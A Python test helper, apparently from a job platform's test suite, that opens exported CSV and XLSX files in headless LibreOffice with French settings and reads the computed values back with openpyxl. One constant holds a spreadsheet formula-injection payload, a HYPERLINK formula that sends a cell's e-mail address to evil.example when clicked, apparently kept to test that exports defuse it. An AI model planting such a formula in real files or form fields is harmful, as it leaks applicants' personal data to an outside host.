"""The platform's CSV and XLSX files as a spreadsheet shows them: LibreOffice opens them (a CSV the
way French Excel does on a French computer: `;`, UTF-8, French number and date reading) and saves
them as XLSX, which openpyxl then reads back with the values LibreOffice computed. A formula that
LibreOffice ran shows its result (« Voir » below), a text stays the text typed.
"""

import subprocess
from pathlib import Path

from openpyxl import load_workbook

from tests.external import program

# What an applicant types as a job title to send the row's e-mail address away when clicked.
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Voir")'
FORMULA_RESULT = "Voir"
# CSV import options: `;` (59), `"` (34), UTF-8 (76), from line 1, standard columns, French (1036).
CSV_IMPORT = "CSV:59,34,76,1,,1036"


def open_in_libreoffice(directory, files):
    """{name: workbook} for `files` = {name: (suffix, bytes)}: one LibreOffice run opens every file and
    saves it again as XLSX, read back with the values LibreOffice computed (`data_only`)."""
    soffice = program("soffice")
    directory = Path(directory)
    source, target = directory / "source", directory / "libreoffice"
    source.mkdir(parents=True)
    paths = []
    for name, (suffix, content) in files.items():
        path = source / f"{name}.{suffix}"
        path.write_bytes(content)
        paths.append(str(path))
    profile = directory / "profile"  # a profile per run: parallel runs do not share one
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            f"--infilter={CSV_IMPORT}",  # used for the CSV files only; XLSX files are recognised
            "--convert-to",
            "xlsx",
            "--outdir",
            str(target),
            *paths,
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return {name: load_workbook(target / f"{name}.xlsx", data_only=True) for name in files}


def rows(workbook, title=None):
    """The values of a sheet (the first one by default), row by row."""
    sheet = workbook[title] if title else workbook.worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def column(rows, header):
    """The values under `header` (first row) in `rows`."""
    index = rows[0].index(header)
    return [row[index] for row in rows[1:]]
